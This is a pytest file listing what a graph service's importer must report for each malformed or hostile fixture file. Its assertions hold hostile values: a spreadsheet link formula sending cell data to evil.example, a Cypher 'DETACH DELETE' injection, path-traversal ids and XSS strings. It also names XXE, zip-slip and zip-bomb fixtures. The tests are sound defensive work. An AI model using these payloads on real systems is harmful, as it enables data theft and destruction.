"""What each table among the bad inputs must give, file by file: the rows of index.csv as assertions."""

from __future__ import annotations

import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from graphsvc.model import Kind, Severity
from graphsvc.records import Problem, Reading, RelationRecord, ThingRecord

Expectation = Callable[[Reading], None]


def found(reading: Reading, code: str) -> list[Problem]:
    return [problem for problem in reading.problems if problem.code == code]


def only(reading: Reading, code: str) -> Problem:
    problems = found(reading, code)
    assert len(problems) == 1, reading.problems
    return problems[0]


def errors(reading: Reading) -> list[tuple[str, int | None, str | None]]:
    return [(p.code, p.line, p.column) for p in reading.problems if p.severity is Severity.ERROR]


def things(reading: Reading) -> dict[str, dict[str, object]]:
    return {record.id: dict(record.fields) for record in reading.records if isinstance(record, ThingRecord)}


def names(reading: Reading) -> dict[str, object]:
    return {identifier: fields.get("name") for identifier, fields in things(reading).items()}


def clean(count: int) -> Expectation:
    """Things, and neither an error nor a warning."""

    def check(reading: Reading) -> None:
        assert len(things(reading)) == count
        assert [p for p in reading.problems if p.severity is not Severity.NOTE] == []

    return check


def refused(code: str, *, words: str = "", line: int | None = None, column: str | None = None) -> Expectation:
    """One error, in this place, and no record."""

    def check(reading: Reading) -> None:
        assert errors(reading) == [(code, line, column)]
        assert words in only(reading, code).message.en
        assert not reading.records

    return check


def dialect(words: str, name: str) -> Expectation:
    """One service, and what was detected said."""

    def check(reading: Reading) -> None:
        clean(1)(reading)
        assert words in only(reading, "dialect").message.en
        assert list(names(reading).values()) == [name]

    return check


def one_dependency(reading: Reading) -> None:
    assert errors(reading) == []
    (record,) = reading.records
    assert isinstance(record, RelationRecord)
    assert (record.start, record.end, record.fields["strength"]) == ("service:svc-001", "service:svc-002", "required")


def norwegian_excel(reading: Reading) -> None:
    clean(1)(reading)
    assert "encoding Windows-1252 (detected), delimiter ;, decimal comma" in only(reading, "dialect").message.en
    fields = things(reading)["svc-010"]
    assert fields["name"] == "Skjenkeløyve på Ås – «test»"
    assert fields["yearly_cost"] == pytest.approx(1_250_000.50 / 1000, abs=1e-12)
    assert fields["valid_from"] == "2025-12-31"


def invalid_bytes(reading: Reading) -> None:
    refused("bad-bytes", words="line 3, column name: byte 160 is 0xC3", line=3, column="name")(reading)


def double_encoded(reading: Reading) -> None:
    assert errors(reading) == []
    warning = only(reading, "double-encoded")
    assert (warning.severity, warning.line, warning.column) == (Severity.WARNING, 2, "name")
    assert names(reading) == {"svc-1": "BlÃ¥bÃ¦r"}


def control_characters(reading: Reading) -> None:
    assert errors(reading) == [("control-character", 2, "id"), ("control-character", 2, "name")]
    assert all("U+0000" in p.message.en and "\0" not in str(p.value) for p in found(reading, "control-character"))


def short_row(reading: Reading) -> None:
    assert errors(reading) == [("few-fields", 2, None)]
    assert "Line 2 has 2 fields, expected 8 (missing: sector" in only(reading, "few-fields").message.en


def blank_rows(reading: Reading) -> None:
    clean(1)(reading)
    assert "4 empty rows (lines 2, 3, 5, 6)" in only(reading, "skipped-rows").message.en


def header_only(reading: Reading) -> None:
    assert not reading.records
    warning = only(reading, "no-rows")
    assert warning.severity is Severity.WARNING
    assert "0 data rows" in warning.message.en
    assert [cover.subject for cover in reading.coverage] == [Kind.SERVICE]


def wrong_headers(reading: Reading) -> None:
    problem = only(reading, "missing-columns")
    assert problem.message.en == "Missing column: id, name. Found: ID_tjeneste, Tittel, Sektør."
    assert problem.fix is not None
    assert "id = ID_tjeneste, name = Tittel" in problem.fix.en


def odd_headings(*shown: str) -> Expectation:
    def check(reading: Reading) -> None:
        clean(1)(reading)
        assert [p.column for p in found(reading, "heading")] == list(shown)

    return check


def formulas(reading: Reading) -> None:
    assert errors(reading) == []
    assert {(p.line, p.column) for p in found(reading, "formula")} == {
        (2, "name"),
        (3, "name"),
        (4, "name"),
        (4, "sector"),
        (4, "owner_org"),
        (5, "name"),
        (5, "sector"),
    }
    assert names(reading)["svc-1"] == '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert names(reading)["svc-4"] == "\t=1+1"


def quoted_newlines(reading: Reading) -> None:
    assert errors(reading) == [("required", 5, "name")]
    assert only(reading, "required").record == 3
    assert names(reading)["svc-1"] == "line1\nline2\r\nline3"


def duplicate(reading: Reading) -> None:
    assert errors(reading) == [("duplicate", 3, "name")]
    message = only(reading, "duplicate").message.en
    assert "svc-001 at line 2 " in message
    assert "line 3 " in message
    assert message.endswith("differ in name.")


def near_duplicates(reading: Reading) -> None:
    assert errors(reading) == []
    assert "(lines 2, 3, 4)" in only(reading, "near-duplicate").message.en
    assert only(reading, "id-trimmed").line == 3
    assert "SVC-001" in things(reading)


def verbatim_ids(*ids: str) -> Expectation:
    def check(reading: Reading) -> None:
        clean(len(ids))(reading)
        assert set(things(reading)) == set(ids)

    return check


def null_words(reading: Reading) -> None:
    verbatim_ids("NA", "null")(reading)
    assert names(reading)["null"] == "Null AS"
    assert [fields["properties"] for fields in things(reading).values()] == [{"sector": "None"}, {"sector": "nan"}]


def cypher(reading: Reading) -> None:
    verbatim_ids("x'}) DETACH DELETE n //", "$id")(reading)
    assert names(reading)["$id"] == "`MATCH (n) DETACH DELETE n`"


def dangling(reading: Reading) -> None:
    assert errors(reading) == [("unknown-reference", 2, "target_id"), ("unknown-reference", 3, "source_id")]
    first, second = found(reading, "unknown-reference")
    assert "svc-999' unknown" in first.message.en
    assert "svc-404' unknown (closest: svc-002)" in second.message.en
    assert not reading.records


def self_loop(reading: Reading) -> None:
    assert errors(reading) == []
    assert only(reading, "self-relation").line == 2


def cycles(reading: Reading) -> None:
    first, second = found(reading, "cycle")
    assert "org-1 -> org-3 -> org-2 -> org-1 (lines 2, 4, 3)" in first.message.en
    assert "org-4 -> org-4 (lines 5)" in second.message.en
    assert errors(reading) == [("cycle", 2, None), ("cycle", 5, None)]


def deep_tree(reading: Reading) -> None:
    assert reading.problems == ()
    assert len(things(reading)) == 3001
    assert sum(isinstance(record, RelationRecord) for record in reading.records) == 3000


def budgets(reading: Reading) -> None:
    assert [(p.code, p.line) for p in reading.problems if p.severity is Severity.ERROR] == [
        ("ambiguous-number", 3),
        ("ambiguous-number", 4),
        ("bad-number", 6),
        ("bad-number", 7),
        ("bad-number", 8),
        ("bad-number", 9),
        ("bad-number", 10),
        ("bad-number", 11),
        ("bad-number", 12),
        ("too-many-digits", 13),
    ]
    assert things(reading)["d"]["yearly_cost"] == 1250
    assert things(reading)["a"]["yearly_cost"] == 1250


def dates(reading: Reading) -> None:
    assert errors(reading) == [("bad-date", line, "valid_from") for line in range(2, 12)]
    assert all(p.fix is not None and "yyyy-mm-dd" in p.fix.en for p in reading.problems)


def strengths(reading: Reading) -> None:
    assert errors(reading) == [
        ("bad-number", 2, "strength"),
        ("out-of-range", 3, "strength"),
        ("ambiguous-number", 4, "strength"),
    ]


def payloads(reading: Reading) -> None:
    clean(8)(reading)
    assert names(reading)["a"] == "<script>alert(1)</script>"
    assert names(reading)["h"] == "'-alert(1)-'"


def identity_number(reading: Reading) -> None:
    warning = only(reading, "identity-number")
    assert (warning.severity, warning.line, warning.column) == (Severity.WARNING, 2, "name")
    assert "01810012311" not in str(reading.problems)


def too_many_errors(reading: Reading) -> None:
    assert reading.counts["problems"] == 8000
    assert {p.code for p in reading.problems} == {"required", "out-of-range", "bad-number", "bad-date"}


def empty_sheet(reading: Reading) -> None:
    assert errors(reading) == [("empty", None, None)]
    assert "Sheet Tjenester is empty" in only(reading, "empty").message.en


def title_rows(reading: Reading) -> None:
    clean(1)(reading)
    assert only(reading, "title-rows").line == 3
    assert next(iter(reading.records)).place.line == 4


def cell(code: str, *cells: str) -> Expectation:
    def check(reading: Reading) -> None:
        assert [(p.code, p.cell) for p in reading.problems] == [(code, name) for name in cells]
        assert "#N/A" not in names(reading).values()

    return check


def numeric_ids(reading: Reading) -> None:
    assert {(p.code, p.line) for p in reading.problems} == {("id-number", 4), ("duplicate", 3)}
    assert "12" in things(reading)
    assert "12.0" not in things(reading)


def two_sheets(reading: Reading) -> None:
    refused("ambiguous-sheets", words="Tjenester, Tjenester (2)")(reading)


def huge_dimension(reading: Reading) -> None:
    assert errors(reading) == [("too-many-columns", 1048576, None)]
    assert not reading.records


def no_secret(reading: Reading) -> None:
    refused("doctype", words="DTD is not allowed")(reading)
    assert "root:" not in str(reading)


def macros(reading: Reading) -> None:
    assert errors(reading) == []
    assert [p.code for p in reading.problems] == ["macro", "external-link"]
    assert names(reading) == {"svc-1": "A"}


def zip_slip(reading: Reading) -> None:
    assert [p.code for p in reading.problems] == ["outside-path"]
    assert not (Path(tempfile.gettempdir()) / "zipslip_owned.txt").exists()


def long_name(reading: Reading) -> None:
    assert errors(reading) == [("cell-too-long", 2, "name")]
    assert only(reading, "cell-too-long").value is not None
    assert len(only(reading, "cell-too-long").value or "") <= 80


def not_a_table(reading: Reading) -> None:
    assert [p.code for p in reading.problems if p.severity is Severity.ERROR] == ["missing-columns"]
    assert not reading.records


EXPECTED: dict[str, Expectation] = {
    "good_services.csv": clean(2),
    "good_dependencies.csv": one_dependency,
    "good_nb_excel_semicolon_cp1252.csv": norwegian_excel,
    "csv_01_utf8_bom.csv": dialect("UTF-8 (BOM)", "Helsestasjon booking"),
    "csv_02_utf16le_bom.csv": dialect("UTF-16", "Helsestasjon Ås"),
    "csv_04_invalid_utf8_midfile.csv": invalid_bytes,
    "csv_05_mixed_encodings.csv": refused("mixed-encodings", words="while line 2 is", line=3, column="name"),
    "csv_07_mojibake_double_encoded.csv": double_encoded,
    "csv_08_nul_bytes.csv": control_characters,
    "csv_10_semicolon_unhinted.csv": dialect("delimiter ;", "Helsestasjon booking"),
    "csv_11_tab_named_csv.csv": dialect("delimiter TAB", "Helsestasjon booking"),
    "csv_13_unclosed_quote.csv": refused(
        "unclosed-quote", words="opened at line 2, column name", line=2, column="name"
    ),
    "csv_14_too_few_fields.csv": short_row,
    "csv_16_ragged_cr_only.csv": clean(2),
    "csv_17_blank_and_comma_rows.csv": blank_rows,
    "csv_19_header_only.csv": header_only,
    "csv_20_wrong_headers.csv": wrong_headers,
    "csv_22_header_whitespace_case.csv": odd_headings("ID", "Name"),
    "csv_23_header_zero_width.csv": odd_headings("id\\u200b"),
    "csv_25_formula_cells.csv": formulas,
    "csv_26_giant_cell_recipe.txt": not_a_table,
    "csv_27_5000_columns.csv": refused("too-many-columns", words="limit is 200", line=1),
    "csv_28_quoted_newlines.csv": quoted_newlines,
    "csv_30_html_login_page.csv": refused("html", words="looks like HTML"),
    "sem_01_duplicate_ids.csv": duplicate,
    "sem_02_ids_case_space.csv": near_duplicates,
    "sem_04_ids_leading_zero.csv": verbatim_ids("0012", "12", "1.2E1"),
    "sem_05_ids_na_null.csv": null_words,
    "sem_07_id_path_traversal.csv": verbatim_ids("../../etc/passwd", "..\\..\\win", "%2e%2e%2f", ".", "CON"),
    "sem_08_cypher_injection.csv": cypher,
    "sem_10_dangling_refs.csv": dangling,
    "sem_11_self_loop.csv": self_loop,
    "sem_13_org_cycle.csv": cycles,
    "sem_14_org_deep_chain.csv": deep_tree,
    "sem_16_budget_formats.csv": budgets,
    "sem_17_dates.csv": dates,
    "sem_19_strength_nan.csv": strengths,
    "sem_20_html_js_names.csv": payloads,
    "sem_22_personal_data.csv": identity_number,
    "sem_23_too_many_errors.csv": too_many_errors,
    "sem_24_dense_clique_30.csv": lambda reading: _flows(reading, 870),
    "sem_24_nodes.csv": clean(30),
    "sem_25_diamond_chain_40.csv": lambda reading: _flows(reading, 160),
    "sem_25_nodes.csv": clean(121),
    "good_services.xlsx": clean(1),
    "xlsx_01_empty_sheet.xlsx": empty_sheet,
    "xlsx_02_title_rows_above_header.xlsx": title_rows,
    "xlsx_04_formula_no_cached.xlsx": cell("formula-without-value", "F2"),
    "xlsx_05_formula_cached_error.xlsx": cell("excel-error", "B2", "F2"),
    "xlsx_07_numeric_ids_float.xlsx": numeric_ids,
    "xlsx_08_two_candidate_sheets.xlsx": two_sheets,
    "xlsx_10_huge_dimension.xlsx": huge_dimension,
    "xlsx_11_xxe_sheet.xlsx": no_secret,
    "xlsx_13_zip_bomb_60mb.xlsx": refused("archive-too-large", words="100:1"),
    "xlsx_14_truncated.xlsx": refused("damaged"),
    "xlsx_16_external_link_macro.xlsx": macros,
    "xlsx_17_csv_named_xlsx.xlsx": refused("not-excel", words="looks like CSV"),
    "xlsx_19_zip_slip.zip.xlsx": zip_slip,
    "zip_01_nested_bomb_2_5gb.zip": refused("nested-archive"),
    "misc_01_wrong_extension.txt": clean(1),
    "misc_02_png_as_csv.csv": refused("not-text", words="PNG"),
    "misc_04_redos_name.csv": long_name,
    "misc_05_filenames.txt": not_a_table,
}
#: What else has to be in the import: relations need their ends.
BESIDE = {"sem_24_dense_clique_30.csv": "sem_24_nodes.csv", "sem_25_diamond_chain_40.csv": "sem_25_nodes.csv"}


def _flows(reading: Reading, count: int) -> None:
    assert errors(reading) == []
    flows = [record for record in reading.records if isinstance(record, RelationRecord)]
    assert len(flows) == count
    assert all(flow.fields["data_to"] == "dependent" and "mode" not in flow.fields for flow in flows)
